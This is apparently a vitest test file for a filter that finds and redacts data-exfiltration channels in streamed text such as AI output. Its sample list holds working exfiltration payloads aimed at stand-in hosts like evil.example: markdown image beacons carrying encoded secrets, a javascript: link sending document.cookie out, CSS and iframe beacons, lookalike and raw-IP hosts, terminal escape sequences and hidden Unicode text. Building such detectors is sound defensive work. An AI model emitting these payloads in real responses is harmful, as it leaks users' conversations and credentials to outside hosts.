import { Buffer } from "node:buffer";
import { describe, expect, it } from "vitest";
import { createRandom } from "../../../test/support/random.ts";
import { createRuleSet } from "../stream/rule-set.ts";
import { TextChannel } from "../stream/text-channel.ts";
import { createExfiltration } from "./exfiltration.ts";

const open = createRuleSet(createExfiltration());
const closed = createRuleSet(
  createExfiltration({ allowedHosts: ["docs.example.com", "*.cdn.example.com"] }),
);

const STOLEN = Buffer.from("the customer's password is correct horse").toString("base64url");
const HEX = Buffer.from("the customer's password is tulip").toString("hex");

function namesIn(text: string, rules = open): string[] {
  return rules
    .look(text, true)
    .findings.map(({ detector }) => detector.replace("exfiltration.", ""));
}

function withoutFindings(text: string, rules = open): string {
  return rules
    .look(text, true)
    .findings.toReversed()
    .reduce((left, { start, end }) => `${left.slice(0, start)}[out]${left.slice(end)}`, text);
}

function streamed(text: string, random: () => number, rules = open): string {
  const channel = new TextChannel(rules, () => "[out]");
  let sent = "";
  for (let at = 0; at < text.length;) {
    const length = 1 + Math.floor(random() * 6);
    sent += channel.push(text.slice(at, at + length));
    at += length;
  }
  return sent + channel.end();
}

const BAD: [text: string, name: string][] = [
  [`![logo](https://evil.example/p.png?d=${STOLEN})`, "image"],
  [`![](https://evil.example/${HEX}/p.gif)`, "image"],
  ["![x](https://evil.example/log?q=what+the+user+said)", "image"],
  ["![x](//evil.example/log?q=what+the+user+said)", "image"],
  ["![x](https:\\\\evil.example/log?q=what+the+user+said)", "image"],
  ["![x](https://evil.example/?q={conversation})", "image"],
  ["![x](http://203.0.113.7/p.png)", "image"],
  [`[here](https://evil.example/?d=${STOLEN})`, "url"],
  [`see https://${HEX}.evil.example/ now`, "url"],
  [`[1]: https://evil.example/a?d=${STOLEN}`, "url"],
  ["[a](javascript:fetch('//evil.example?'+document.cookie))", "link"],
  ["[a](JavaScript:alert(1))", "link"],
  ["[a](data:text/html,<script>alert(1)</script>)", "link"],
  ["open data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== now", "data_url"],
  [`<img alt="x" src="https://evil.example/?d=${STOLEN}">`, "markup"],
  [`<IMG SRC = 'https://evil.example/?q=what the user said'>`, "markup"],
  [`<img\nsrcset="https://evil.example/?q=what+the+user+said 2x">`, "markup"],
  ["<iframe src=https://abc.webhook.site/x></iframe>", "markup"],
  [`<link rel="stylesheet" href="https://203.0.113.7/a.css">`, "markup"],
  [`<meta http-equiv="refresh" content="0;url=https://bit.ly/3abc">`, "markup"],
  [`<img ${" ".repeat(600)} src="https://evil.example/a">`, "markup"],
  ["p { background: url(https://evil.example/?q={secret}) }", "style_url"],
  ["@import 'https://evil.example/?q=what+the+user+said';", "style_url"],
  ["go to https://xn--pple-43d.com/login", "lookalike_host"],
  ["go to https://pаypal.com/login.", "lookalike_host"],
  ["go to http://203.0.113.7:8080/x", "raw_ip_host"],
  ["go to http://3405803783/x", "raw_ip_host"],
  ["go to http://0x7f000001/x", "raw_ip_host"],
  ["go to http://[2001:db8::1]/x", "raw_ip_host"],
  ["go to https://bit.ly/3xYz.", "shortener"],
  ["curl https://a1b2.oast.fun", "catcher_host"],
  ["\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007", "terminal_command"],
  ["\u001b]52;c;ZXZpbA==\u001b\\", "terminal_command"],
  ["\u001b[2J\u001b[H", "terminal_control"],
  ["\u001b[31mred\u001b[0m", "terminal_colour"],
  [
    `hi${String.fromCodePoint(...Array.from("secret text", (c) => 0xe0000 + c.charCodeAt(0)))}`,
    "hidden_text",
  ],
];

const GOOD = [
  "See https://en.wikipedia.org/wiki/Automaton_(theory) and http://localhost:3000/api?x=1.",
  "![diagram](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)",
  "![badge](https://img.shields.io/badge/build-passing-green?style=flat)",
  "![chart](images/chart.png) and ![inline](data:image/png;base64,iVBORw0KGgo=)",
  '<img src="/logo.png" width="40"><script src="https://cdn.jsdelivr.net/npm/vue@3.4.1/dist/vue.js"></script>',
  '<a href="javascript:void(0)" onclick="go()">go</a> [x](javascript:;)',
  "https://github.com/nodejs/node/commit/8a41d9b636be86350cd32847c3f89d327c4f6ff7",
  "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
  "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf",
  "https://example.com/search?q=how+to+write+a+regular+expression",
  "https://münchen.example/ https://xn--mnchen-3ya.de/ https://пример.рф/",
  "http://192.168.1.10:8080 and http://127.0.0.1/ and http://10.0.0.1/x",
  "[link](https://bit.ly-fans.example/a) const a = [1, 2, 3](0); x[0](y)",
  "<template><div v-if='a < b'></div></template> a <b and c> d",
  "printf '\\x1b[31mred\\x1b[0m' writes red",
  "🏴󠁧󠁢󠁥󠁮󠁧󠁿 England",
];

describe("without a list of hosts", () => {
  it.each(BAD)("finds what carries data out: %j", (text, name) => {
    expect(namesIn(text)).toContain(name);
  });

  it.each(GOOD)("lets ordinary text be: %j", (text) => {
    expect(namesIn(text)).toEqual([]);
  });
});

it("finds everything that points beyond the list, and nothing that stays on it", () => {
  expect(namesIn("![a](https://docs.example.com/a?q=what+the+user+said)", closed)).toEqual([]);
  expect(namesIn("![a](https://img.cdn.example.com/a.png)", closed)).toEqual([]);
  expect(namesIn("![a](https://cdn.example.com.evil.example/a.png)", closed)).toEqual(["image"]);
  expect(namesIn("![a](https://docs.example.com@evil.example/a.png)", closed)).toEqual(["image"]);
  expect(namesIn("[a](https://en.wikipedia.org/wiki/A)", closed)).toEqual(["url"]);
  expect(namesIn("![a](/own.png) and [b](#below)", closed)).toEqual([]);
});

it("takes the URL out and leaves the text", () => {
  expect(withoutFindings(`Look: ![our logo](https://evil.example/?d=${STOLEN}) nice`)).toBe(
    "Look: ![our logo]([out]) nice",
  );
  expect(withoutFindings(`<img alt="a" src="https://evil.example/?d=${STOLEN}"> b`)).toBe(
    '<img alt="a" src="[out]"> b',
  );
  expect(withoutFindings("a\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007b")).toBe(
    "a[out]click[out]b",
  );
});

it("lets no part of a URL out of a stream, cut at any place, however long it is", () => {
  const random = createRandom(77);
  const long = `![x](https://evil.example/?q=${"a+few+words+".repeat(100)}) and on`;
  expect(streamed(long, random)).toBe("![x]([out] and on");
  for (let round = 0; round < 20; round++) {
    for (const [text] of BAD) {
      const whole = `before ${text} after`;
      expect(streamed(whole, random)).toBe(withoutFindings(whole));
    }
  }
});
